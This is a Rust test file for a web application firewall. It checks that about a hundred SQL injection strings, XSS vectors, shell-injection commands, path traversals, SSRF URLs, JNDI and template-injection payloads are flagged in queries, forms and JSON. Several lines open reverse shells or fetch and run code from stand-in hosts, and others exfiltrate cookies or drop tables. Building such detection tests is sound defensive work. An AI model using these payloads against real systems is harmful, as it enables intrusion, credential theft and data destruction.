//! Attacks of our own, by class: other words, encodings and dialects than any published list.
//! Each is refused as a parameter of the query and as a field of a form, and those that are not
//! bound to a name or a place as a string of JSON, too.

mod sql;
mod variations;

use portcullis::waf::{RawRequest, Ruleset, Waf};
use sql::QUERIES;
use variations::VARIATIONS;

/// Families as those who attack know them, by class: a value a line, as [`values`] reads them.
const FAMILIES: &[(&str, &str)] = &[
    ("crlf", include_str!("attacks/crlf.txt")),
    ("generic", include_str!("attacks/generic.txt")),
    ("java", include_str!("attacks/java.txt")),
    ("ldap", include_str!("attacks/ldap.txt")),
    ("lfi", include_str!("attacks/lfi.txt")),
    ("mail", include_str!("attacks/mail.txt")),
    ("nodejs", include_str!("attacks/nodejs.txt")),
    ("nosql", include_str!("attacks/nosql.txt")),
    ("php", include_str!("attacks/php.txt")),
    ("proto", include_str!("attacks/proto.txt")),
    ("rce", include_str!("attacks/rce.txt")),
    ("rfi", include_str!("attacks/rfi.txt")),
    ("sqli", include_str!("attacks/sqli.txt")),
    ("ssi", include_str!("attacks/ssi.txt")),
    ("ssrf", include_str!("attacks/ssrf.txt")),
    ("ssti", include_str!("attacks/ssti.txt")),
    ("xpath", include_str!("attacks/xpath.txt")),
    ("xss", include_str!("attacks/xss.txt")),
    ("xxe", include_str!("attacks/xxe.txt")),
];

/// Queries as they are sent: names that are attacks, and encodings that no client writes.
const RAW_QUERIES: &str = include_str!("attacks/queries.txt");

/// The values of a file, one a line, where `␊`, `␍`, `␉`, `␀` and `␠` stand for what they show.
pub(super) fn values(file: &str) -> impl Iterator<Item = String> {
    file.lines().map(|line| {
        line.replace('␊', "\n")
            .replace('␍', "\r")
            .replace('␉', "\t")
            .replace('␀', "\0")
            .replace('␠', " ")
    })
}

/// Those here and those in the files of this folder.
pub(super) fn all() -> impl Iterator<Item = &'static (&'static str, &'static [&'static str])> {
    ATTACKS.iter().chain(QUERIES).chain(VARIATIONS)
}

pub(super) fn encode(text: &str) -> String {
    text.bytes()
        .map(|byte| match byte {
            byte if byte.is_ascii_alphanumeric() => char::from(byte).to_string(),
            byte => format!("%{byte:02X}"),
        })
        .collect()
}

const ATTACKS: &[(&str, &[&str])] = &[
    (
        "sqli",
        &[
            "7 or 9=9",
            "7) or (9=9",
            "7' or '9'='9",
            "7\" or \"9\"=\"9",
            "7` or `a`=`a",
            "x') or ('q'='q",
            "x\")) or ((\"q\"=\"q",
            "admin'-- -",
            "admin'#",
            "admin' /*",
            "root\"-- ",
            "' or true-- ",
            "' || true#",
            "' && 1#",
            "' xor 1-- ",
            "1 and 3>2",
            "1 and 'b'>'a'",
            "1 and 5 between 1 and 9-- ",
            "1 or exists(select 1)",
            "12 and ascii(substr((select password from users limit 1),1,1))>77",
            "' and (select count(*) from accounts) > 0 and 'x'='x",
            "' and length(database())=8-- -",
            "' or substr(version(),1,1)='8",
            "1 union select null,null,null",
            "1 UNION ALL SELECT user,pass FROM members",
            "-1 union(select 1,2,3)",
            "1/**/union/**/all/**/select/**/1,2",
            "1%0Aunion%0Aselect%0A1",
            "1 union distinct select 1,2 from dual",
            "1 union values(1,2,3)",
            "' union select table_name,2 from information_schema.tables-- -",
            "1 except select 5 from t",
            "0 /*!50000union*/ /*!50000select*/ 1,2",
            "1;select pg_sleep(5)",
            "1; waitfor delay '0:0:9'-- ",
            "1 and sleep(7)",
            "1 and benchmark(9000000,sha1(1))",
            "1 and 1=dbms_pipe.receive_message('a',5)",
            "1 or 1=(select 1 from pg_sleep(3))",
            "'; select sleep(3)#",
            "1) and randomblob(900000000)--",
            "1 and extractvalue(1,concat(0x5c,(select user())))",
            "1 and updatexml(null,concat(0x3a,version()),null)",
            "1 and 1=convert(int,@@version)",
            "1 and cast((select current_user) as int)=1",
            "1 or 1=utl_inaddr.get_host_address((select banner from v$version where rownum=1))",
            "1 and exp(~(select*from(select user())x))",
            "1;drop table customers",
            "1';drop table customers;--",
            "1;truncate table logs--",
            "1;update users set role='admin' where id=3",
            "1;insert into users(name,role) values('eve','admin')",
            "1;delete from sessions",
            "x';exec xp_cmdshell 'dir c:\\'--",
            "1;exec master..xp_dirtree '\\\\evil.example\\a'",
            "1;declare @q nvarchar(400);set @q=0x73656c;exec(@q)",
            "1;shutdown--",
            "1;create user eve identified by 'x'",
            "1;alter table users add column z int",
            "1;grant all on *.* to eve",
            "1;copy t from program 'id'",
            "' into outfile '/var/www/s.php",
            "1 into dumpfile '/tmp/x'",
            "1 order by 12-- ",
            "1' order by 7-- -",
            "1 group by id having 1=1",
            "1' group by name having 1=1-- ",
            "1 limit 1 procedure analyse()",
            "load_file('/etc/passwd')",
            "1 and load_file(0x2f6574632f706173737764)",
            "(select * from users)",
            "(select password from users where id=1)",
            "select * from users where name='a'",
            "select name,email from customers",
            "select @@version",
            "select user()",
            "1 or if(3=3,sleep(4),0)",
            "1 and case when 2=2 then 1 else 0 end",
            "' + (select top 1 name from sysobjects) + '",
            "'||(select banner from v$version)||'",
            "'||utl_http.request('http://evil.example')||'",
            "a'||'b",
            "x' and email like '%@%",
            "x' and name is not null-- ",
            "x' or id>0-- ",
            "x' or name like 'a%",
            "1 rlike (select 1)",
            "1' rlike '.*",
            "1 and json_extract('{\"a\":1}','$.a')=1",
            "'{\"a\":1}'::jsonb @> '{\"a\":1}'",
            "1 or 'a' ilike 'A'",
            "1 and char(65)=chr(65)",
            "chr(65)||chr(66)",
            "1 or 0x41=0x41",
            "1 or 1 like 1",
            "1=1",
            "1' and '1",
            "-5 or 8=8#",
            "99999 or 1 -- -",
            "') union select 1,2-- -",
            "1 AND (SELECT 8 FROM(SELECT COUNT(*),CONCAT(0x71,(SELECT 1),FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)",
        ],
    ),
    (
        "xss",
        &[
            "<script>fetch('//evil.example')</script>",
            "<ScRiPt src=//evil.example/x.js></sCrIpT>",
            "<img src=1 onerror=alert(document.domain)>",
            "<svg onload=confirm(1)>",
            "<body onpageshow=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<video src onloadstart=alert(1)>",
            "<audio src=x onerror=prompt(1)>",
            "<marquee onstart=alert(1)>",
            "<iframe src=javascript:alert(1)>",
            "<iframe srcdoc=\"&lt;script&gt;1&lt;/script&gt;\">",
            "<object data=data:text/html;base64,PHNjcmlwdD4=>",
            "<embed src=//evil.example/x.swf>",
            "<a href=javascript:alert(1)>x</a>",
            "<a href=\"java\tscript:alert(1)\">x</a>",
            "<a href=\" &#1; javascript:alert(1)\">x</a>",
            "<form action=javascript:alert(1)><input type=submit>",
            "<button formaction=javascript:alert(1)>",
            "<math><mi xlink:href=\"data:x,<script>1</script>\">",
            "<svg><animate attributeName=href values=javascript:alert(1) />",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x",
            "<base href=//evil.example/>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
            "<style>@import '//evil.example/x.css';</style>",
            "<div style=\"width:expression(alert(1))\">",
            "<p style=\"background:url(javascript:alert(1))\">",
            "<xss onclick=\"alert(1)\">x</xss>",
            "<x/onpointerenter=alert(1)>",
            "\"><img src=x onerror=alert(1)>",
            "'><svg/onload=alert(1)>",
            "\" onfocus=alert(1) autofocus x=\"",
            "' onmouseenter='alert(1)",
            "x onmouseover=alert(1)",
            "</script><script>alert(1)</script>",
            "</title><script>1</script>",
            "</textarea><img src=x onerror=1>",
            "--><script>alert(1)</script>",
            "';alert(1);//",
            "\"-alert(1)-\"",
            "\\';alert(1)//",
            "${alert(1)}",
            "`;alert(1)//`",
            "javascript:alert(document.cookie)",
            "JaVaScRiPt:prompt(1)",
            "java%0ascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "vbscript:msgbox(1)",
            "document.location='//evil.example/?'+document.cookie",
            "window['loc'+'ation']='//evil.example'",
            "top['al'+'ert'](1)",
            "self.constructor.constructor('alert(1)')()",
            "[].filter.constructor('alert(1)')()",
            "eval(atob('YWxlcnQoMSk='))",
            "setTimeout('alert(1)',0)",
            "new Function('alert(1)')()",
            "Function('alert(1)')()",
            "(alert)(1)",
            "alert`1`",
            "alert.call(null,1)",
            "window.alert(1)",
            "$.getScript('//evil.example')",
            "import('//evil.example/x.js')",
            "navigator.sendBeacon('//e.example',document.cookie)",
            "localStorage.getItem('token')",
            "[][(![]+[])[+[]]+([![]]+[][[]])[+!+[]+[+[]]]]",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<template><script>alert(1)</script></template>",
            "<input autofocus onfocus=alert(1)>",
            "<select onchange=alert(1)><option>1",
            "<image src=x onerror=alert(1)>",
            "<table background=javascript:alert(1)>",
            "<!--><script>alert(1)//-->",
            "<script\n>alert(1)</script\n>",
            "<sVg/oNlOaD=alert(1)//",
        ],
    ),
    (
        "rce",
        &[
            "; cat /etc/passwd",
            "| cat /etc/shadow",
            "|| whoami",
            "&& id",
            "& ping -c 3 127.0.0.1 &",
            "; ls -la",
            "|ls /",
            "`whoami`",
            "$(whoami)",
            "$(cat /etc/hosts)",
            "a;id;",
            "127.0.0.1;uname -a",
            "127.0.0.1 && curl http://evil.example/x|sh",
            "127.0.0.1 | nc -e /bin/sh 192.0.2.7 4444",
            "; wget http://evil.example/a -O /tmp/a",
            "; curl -s evil.example/a | bash",
            "; bash -i >& /dev/tcp/192.0.2.7/4444 0>&1",
            "; python3 -c 'import os;os.system(\"id\")'",
            "; perl -e 'exec \"/bin/sh\"'",
            "; php -r 'system(\"id\");'",
            "; ruby -rsocket -e 'x'",
            "; nslookup `whoami`.evil.example",
            "; sleep 10",
            "| sleep 5",
            "; c'a't /e't'c/pas'swd'",
            "; c\\at /etc/pass\\wd",
            "; w$@hoami",
            "; who$()ami",
            "; /bin/c?t /etc/p?sswd",
            "; /???/??t /???/p??s??",
            "; cat${IFS}/etc/passwd",
            ";{cat,/etc/passwd}",
            ";cat$IFS$9/etc/passwd",
            "() { :;}; /bin/bash -c \"id\"",
            "; echo aWQ= | base64 -d | sh",
            "; find / -name id_rsa",
            "; rm -rf /tmp/x",
            "; chmod 777 /tmp/x",
            "; sudo -l",
            "; crontab -l",
            "; env",
            "; ps aux",
            "; netstat -an",
            "; ifconfig",
            "nohup bash x.sh",
            "time curl http://evil.example",
            "sudo cat /etc/shadow",
            "/bin/bash -c id",
            "/usr/bin/id",
            "& dir c:\\",
            "& type c:\\windows\\win.ini",
            "| net user",
            "& whoami /all",
            "& ipconfig /all",
            "& certutil -urlcache -f http://evil.example/x.exe x.exe",
            "powershell -nop -w hidden -enc SQBFAFgA",
            "powershell.exe -c \"iex(iwr http://evil.example)\"",
            "cmd.exe /c whoami",
            "cmd /c \"ping 127.0.0.1\"",
            "| w^h^o^a^m^i",
            "for /f %i in ('whoami') do echo %i",
            "if exist c:\\x echo 1",
            "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://e.example/x')",
            "Start-Process calc.exe",
        ],
    ),
    (
        "lfi",
        &[
            "../../../../etc/passwd",
            "..\\..\\..\\windows\\win.ini",
            "....//....//....//etc/passwd",
            "..%2f..%2f..%2fetc%2fpasswd",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "..%c0%af..%c0%afetc/passwd",
            "/etc/passwd",
            "/etc/shadow",
            "/proc/self/environ",
            "/proc/self/cmdline",
            "/var/log/apache2/access.log",
            "/root/.ssh/id_rsa",
            "/home/bob/.ssh/authorized_keys",
            "/home/bob/.aws/credentials",
            "c:\\windows\\system32\\drivers\\etc\\hosts",
            "c:/boot.ini",
            "file:///etc/hosts",
            "file://localhost/etc/passwd",
            "WEB-INF/web.xml",
            "../WEB-INF/web.xml",
            "../../wp-config.php",
            ".git/config",
            "/.env",
            "../.env",
            "/var/www/html/.htpasswd",
            "..;/..;/manager/html",
            "/etc/nginx/nginx.conf",
            "/etc/passwd%00.jpg",
        ],
    ),
    (
        "ssrf",
        &[
            "http://127.0.0.1/",
            "http://localhost/admin",
            "http://169.254.169.254/latest/meta-data/iam/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://[::1]/",
            "http://0/",
            "http://0.0.0.0:22/",
            "http://2130706433/",
            "http://0x7f000001/",
            "http://017700000001/",
            "http://127.1/",
            "http://127.0.0.1.nip.io/",
            "http://10.0.0.5:9200/_cat",
            "http://192.168.1.1/",
            "http://[::ffff:127.0.0.1]/",
            "http://user@127.0.0.1/",
            "http://example.com@169.254.169.254/",
            "gopher://127.0.0.1:6379/_INFO",
            "dict://127.0.0.1:11211/stats",
            "ldap://evil.example/x",
            "http://100.100.100.200/latest/meta-data/",
            "https://kubernetes.default.svc/api",
            "http://foo.internal/",
            "http://host.docker.internal:2375/",
        ],
    ),
    (
        "rfi",
        &[
            "http://192.0.2.7/shell.txt",
            "ftp://evil.example/shell.php",
            "http://evil.example/shell.txt?",
            "https://evil.example/c99.txt??",
        ],
    ),
    (
        "php",
        &[
            "<?php system($_GET['c']); ?>",
            "<?= `id` ?>",
            "php://filter/convert.base64-encode/resource=index",
            "php://input",
            "phar://x.phar/a",
            "expect://id",
            "data:text/plain;base64,PD9waHA=",
            "O:4:\"User\":1:{s:4:\"name\";s:3:\"eve\";}",
            "a:1:{i:0;O:3:\"Foo\":0:{}}",
            "$_GET['x']",
            "${phpinfo()}",
            "assert($_POST[1])",
            "base64_decode('aWQ=')",
            "file_get_contents('/etc/passwd')",
            "call_user_func('system','id')",
            "preg_replace('/x/e','phpinfo()','x')",
            "$f='sys'.'tem';$f('id');",
            "allow_url_include=1",
            "auto_prepend_file=php://input",
        ],
    ),
    (
        "java",
        &[
            "${jndi:ldap://evil.example/a}",
            "${jndi:rmi://evil.example/a}",
            "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}",
            "${${env:X:-j}ndi:dns://evil.example}",
            "java.lang.Runtime.getRuntime().exec(\"id\")",
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "%{(#a=@java.lang.Runtime@getRuntime()).exec('id')}",
            "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse']}",
            "${''.getClass().forName('java.lang.Runtime')}",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
            "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==",
            "org.apache.commons.collections.functors.InvokerTransformer",
            "javax.script.ScriptEngineManager",
            "new java.lang.ProcessBuilder(\"id\").start()",
            "#{T(java.lang.System).getenv()}",
            "redirect:${#context}",
            "<java class=\"java.beans.XMLDecoder\">",
        ],
    ),
    (
        "nodejs",
        &[
            "require('child_process').execSync('id')",
            "process.mainModule.require('fs')",
            "global.process.env",
            "_$$ND_FUNC$$_function(){require('child_process')}()",
            "new Function('return process')()",
            "this.constructor.constructor('return process')()",
            "fs.readFileSync('/etc/passwd')",
            "child_process.exec('id')",
            "while(true){}",
            "__proto__.polluted=1",
            "{\"__proto__\":{\"admin\":true}}",
            "constructor.prototype.admin=1",
        ],
    ),
    (
        "ssti",
        &[
            "{{7*7}}",
            "{{7*'7'}}",
            "${7*7}",
            "#{7*7}",
            "*{7*7}",
            "<%= 7*7 %>",
            "{{config.items()}}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "{{request.application.__globals__}}",
            "{{self.__init__.__globals__}}",
            "{{_self.env.registerUndefinedFilterCallback('exec')}}",
            "{{['id']|filter('system')}}",
            "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
            "{% import os %}{{os.system('id')}}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
            "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
            "{php}echo 1;{/php}",
            "{{constructor.constructor('alert(1)')()}}",
            "@(1+2)",
            "{{range.constructor(\"return 1\")()}}",
            "${{7*7}}",
            "[[${7*7}]]",
            "<%= system('id') %>",
            "{{ ''.join(['a']) }}",
        ],
    ),
    (
        "nosql",
        &[
            "{\"$gt\":\"\"}",
            "{\"$ne\":null}",
            "[$ne]",
            "' || 'a'=='a",
            "'; return true; var x='",
            "{$where:'sleep(1000)'}",
            "db.users.find({})",
            "', $or: [ {}, { 'a':'a",
        ],
    ),
    (
        "ldap",
        &[
            "*)(uid=*))(|(uid=*",
            "admin)(&)",
            "*)(objectClass=*",
            "*(|(mail=*))",
            "x)(|(password=*)",
        ],
    ),
    (
        "xpath",
        &[
            "' or count(/*)=1 or 'a'='b",
            "'] | //user/*[contains(.,'",
            "x' or name(/*)='root",
            "ancestor::node()",
        ],
    ),
    (
        "xxe",
        &[
            "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/e.dtd\"> %p;]>",
        ],
    ),
    (
        "ssi",
        &[
            "<!--#exec cmd=\"id\" -->",
            "<!--#include virtual=\"/etc/passwd\"-->",
            "<esi:include src=\"http://evil.example\"/>",
        ],
    ),
];

#[test]
fn attacks_are_refused_in_query_and_form() {
    let waf = Waf::new(Ruleset::builtin());
    let mut missed = Vec::new();
    for (class, attacks) in all() {
        for attack in *attacks {
            let target = format!("/find?q={}", encode(attack));
            if !waf.judge(&RawRequest::new("GET", &target)).is_hostile() {
                missed.push(format!("{class} in the query: {attack}"));
            }
            let body = format!("lang=en&q={}", encode(attack));
            let form = RawRequest::new("POST", "/find")
                .header("content-type", "application/x-www-form-urlencoded")
                .body(&body);
            if !waf.judge(&form).is_hostile() {
                missed.push(format!("{class} in a form: {attack}"));
            }
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn injections_are_refused_in_json() {
    let waf = Waf::new(Ruleset::builtin());
    let mut missed = Vec::new();
    let bound = ["php", "rfi", "nosql"];
    for (class, attacks) in all().filter(|(class, _)| !bound.contains(class)) {
        for attack in *attacks {
            let body = serde_json::json!({ "page": 1, "q": attack }).to_string();
            let request = RawRequest::new("POST", "/api/find")
                .header("content-type", "application/json")
                .body(&body);
            if !waf.judge(&request).is_hostile() {
                missed.push(format!("{class}: {attack}"));
            }
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
}

/// In a line break of a form or of JSON a text goes on; in a query it is an attack.
const OF_URLS: [&str; 1] = ["crlf"];

#[test]
fn families_are_refused_wherever_they_stand() {
    let waf = Waf::new(Ruleset::builtin());
    let mut missed = Vec::new();
    let mut count = 0;
    for (class, file) in FAMILIES {
        for attack in values(file) {
            count += 1;
            let target = format!("/find?q={}", encode(&attack));
            if !waf.judge(&RawRequest::new("GET", &target)).is_hostile() {
                missed.push(format!("{class} in the query: {attack}"));
            }
            if OF_URLS.contains(class) {
                continue;
            }
            let body = format!("lang=en&q={}", encode(&attack));
            let form = RawRequest::new("POST", "/find")
                .header("content-type", "application/x-www-form-urlencoded")
                .body(&body);
            if !waf.judge(&form).is_hostile() {
                missed.push(format!("{class} in a form: {attack}"));
            }
            let body = serde_json::json!({ "page": 1, "q": attack, "tags": ["a"] }).to_string();
            let json = RawRequest::new("POST", "/api/find")
                .header("content-type", "application/json")
                .body(&body);
            if !waf.judge(&json).is_hostile() {
                missed.push(format!("{class} in JSON: {attack}"));
            }
        }
    }
    assert!(missed.is_empty(), "{missed:#?}");
    assert!(count > 2600, "{count}");
}

#[test]
fn queries_as_they_are_sent_are_refused() {
    let waf = Waf::new(Ruleset::builtin());
    let queries: Vec<_> = values(RAW_QUERIES).collect();
    let missed: Vec<_> = queries
        .iter()
        .filter(|query| {
            let target = format!("/find?{query}");
            !waf.judge(&RawRequest::new("GET", &target)).is_hostile()
        })
        .collect();
    assert!(missed.is_empty(), "{missed:#?}");
    assert!(queries.len() > 280, "{}", queries.len());
}

/// Encodings that an application, or what stands between, may undo.
#[test]
fn encodings_hide_nothing() {
    let waf = Waf::new(Ruleset::builtin());
    let twice = |text: &str| encode(&encode(text));
    for (name, value) in [
        ("percent, twice", twice("' or 1=1-- ")),
        ("percent, twice, a path", twice("../../etc/passwd")),
        ("entities", encode("&lt;script&gt;alert(1)&lt;/script&gt;")),
        ("numbered entities", encode("&#60;svg onload=alert(1)&#62;")),
        ("base64", encode("JyBPUiAxPTEtLSA=")),
        (
            "escapes",
            encode("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
        ),
        (
            "full width",
            encode("\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}"),
        ),
        ("overlong", "..%c0%af..%c0%afetc/passwd".to_owned()),
        ("a null byte", encode("<scr\0ipt>alert(1)</scr\0ipt>")),
    ] {
        let target = format!("/?q={value}");
        assert!(
            waf.judge(&RawRequest::new("GET", &target)).is_hostile(),
            "{name}: {target}"
        );
    }
}
